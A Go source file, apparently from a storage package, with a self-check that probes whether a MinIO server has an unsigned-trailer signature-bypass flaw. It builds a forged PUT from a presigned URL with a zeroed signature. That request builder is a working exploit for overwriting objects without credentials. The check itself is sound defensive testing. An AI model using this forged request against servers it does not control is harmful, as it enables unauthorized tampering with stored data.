package s3

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"

	"github.com/google/uuid"
)

// isForgeable tries the fault of MinIO servers up to their last public version (CVE-2026-40344): a
// PUT whose body is marked as STREAMING-UNSIGNED-PAYLOAD-TRAILER is taken without a signature from
// whoever knows an access key's id, and every signed URL shows that. True means that objects can be
// overwritten by anyone who was ever given a link. A key whose policy denies such bodies is safe;
// docker/minio-policy.json has the rule.
func isForgeable(ctx context.Context, s *Store) (bool, error) {
	ctx, cancel := context.WithTimeout(ctx, callTimeout)
	defer cancel()
	id := uuid.NewString()
	req, err := forgedRequest(ctx, s, id, "forged")
	if err != nil {
		return false, err
	}
	resp, err := (&http.Client{Transport: newTransport()}).Do(req)
	if err != nil {
		return false, fmt.Errorf("blob: %w", err)
	}
	defer resp.Body.Close()
	if _, err := io.Copy(io.Discard, io.LimitReader(resp.Body, 64<<10)); err != nil {
		return false, fmt.Errorf("blob: %w", err)
	}
	if resp.StatusCode != http.StatusOK {
		return false, nil
	}
	return true, s.Delete(ctx, id)
}

// forgedRequest returns a request that writes an object without a secret, made of what a signed URL
// shows.
func forgedRequest(ctx context.Context, s *Store, id, content string) (*http.Request, error) {
	u, err := s.client.PresignedGetObject(ctx, s.bucket, id, time.Minute, url.Values{})
	if err != nil {
		return nil, fmt.Errorf("blob: %w", err)
	}
	q := u.Query()
	q.Set("X-Amz-Signature", strings.Repeat("0", 64))
	u.RawQuery = q.Encode()
	sum := binary.BigEndian.AppendUint32(nil, crc32.ChecksumIEEE([]byte(content)))
	body := fmt.Sprintf("%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n",
		len(content), content, base64.StdEncoding.EncodeToString(sum))
	req, err := http.NewRequestWithContext(ctx, http.MethodPut, u.String(), strings.NewReader(body))
	if err != nil {
		return nil, fmt.Errorf("blob: %w", err)
	}
	req.Header.Set("X-Amz-Content-Sha256", "STREAMING-UNSIGNED-PAYLOAD-TRAILER")
	req.Header.Set("X-Amz-Decoded-Content-Length", strconv.Itoa(len(content)))
	req.Header.Set("X-Amz-Trailer", "x-amz-checksum-crc32")
	req.Header.Set("Content-Encoding", "aws-chunked")
	return req, nil
}
